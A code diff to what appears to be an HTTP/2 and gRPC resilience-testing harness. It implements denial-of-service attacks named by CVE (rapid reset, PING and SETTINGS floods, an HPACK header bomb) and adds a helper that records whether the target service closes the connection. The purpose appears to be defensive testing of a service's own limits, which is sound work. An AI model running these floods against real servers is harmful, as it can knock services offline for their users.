@@ -1,18 +1,19 @@
 import { once } from 'node:events'
-import { toFrame, uint32 } from '../../../platform/http2/frames-peer.ts'
+import { type FramesPeer, toFrame, uint32 } from '../../../platform/http2/frames-peer.ts'
 import { settingId, settingsPayload } from '../../../platform/http2/settings.ts'
 import { errorCode, frameFlag, frameType } from '../../../platform/http2/wire.ts'
 import { flood, isOpen, pause } from '../flood.ts'
 import type { Attack, Endpoint, Target } from './attack.ts'
 import { collect, envelope, grpcHeaders, integer, send } from './grpc.ts'
 
-const { headers, data, ping, settings, resetStream, continuation } = frameType
+const { headers, data, ping, settings, resetStream, continuation, goaway } = frameType
 const { endHeaders, endStream } = frameFlag
 const noBytes = Buffer.alloc(0)
 const listMovies = '/movie.v1.MovieService/ListMovies'
 
 /** What frames, heads and connections cost before any message is read. */
 export const transportAttacks: readonly Attack[] = [
+  { name: 'nothing, to compare with', run: ({ signal }) => once(signal, 'abort').then(() => {}) },
   { name: 'rapid reset (CVE-2023-44487)', run: rapidReset },
   floodOf('a flood of PING (CVE-2019-9512)', toFrame(ping, 0, 0, Buffer.alloc(8))),
   floodOf('a flood of SETTINGS (CVE-2019-9515)', toFrame(settings, 0, 0, noBytes)),
@@ -41,8 +42,7 @@ function floodOf(name: string, frame: Buffer, onStream = false): Attack {
         const peer = await metadata.peer()
         if (onStream) peer.request(1, grpcHeaders('/grpc.health.v1.Health/Check'), false)
         await flood(peer.socket, frame, Math.ceil(4_000_000 / frame.length))
-        saw(peer.closed || !isOpen(peer.socket) ? 'closed' : 'taken')
-        peer.socket.destroy()
+        saw(await endOf(peer))
       }
     },
   }
@@ -59,9 +59,17 @@ async function rapidReset({ metadata, signal, saw }: Target): Promise<void> {
       peer.socket.write(Buffer.concat(pair))
       if (streamId % 200 === 199) await pause(1)
     }
-    saw(isOpen(peer.socket) ? 'taken' : 'closed')
-    peer.socket.destroy()
+    saw(await endOf(peer))
   }
+}
+
+/** Whether the service closes the connection, soon, for what was sent on it. */
+async function endOf(peer: FramesPeer): Promise<'closed' | 'taken'> {
+  const hasEnded = () => peer.closed || peer.frames.some(({ type }) => type === goaway)
+  for (let waits = 0; waits < 50 && !hasEnded(); waits++) await pause(20)
+  const end = hasEnded() ? 'closed' : 'taken'
+  peer.socket.destroy()
+  return end
 }
 
 /** One long field in the table, and then a byte for each of its repetitions. */
@@ -71,12 +79,11 @@ async function hpackBomb({ metadata, signal, saw }: Target): Promise<void> {
     const long = peer.encode([...grpcHeaders('/'), 'x-long', 'x'.repeat(3_900)])
     peer.send(headers, endHeaders | endStream, 1, long)
     for (let streamId = 3; streamId < 2_003 && isOpen(peer.socket); streamId += 2) {
-      const block = Buffer.concat([long.subarray(0, 0), Buffer.alloc(16_000, 0xbe)])
+      const block = Buffer.alloc(16_000, 0xbe)
       peer.send(headers, endHeaders | endStream, streamId, block)
       if (streamId % 100 === 1) await pause(1)
     }
-    saw(isOpen(peer.socket) ? 'refused' : 'closed')
-    peer.socket.destroy()
+    saw(await endOf(peer))
   }
 }
 
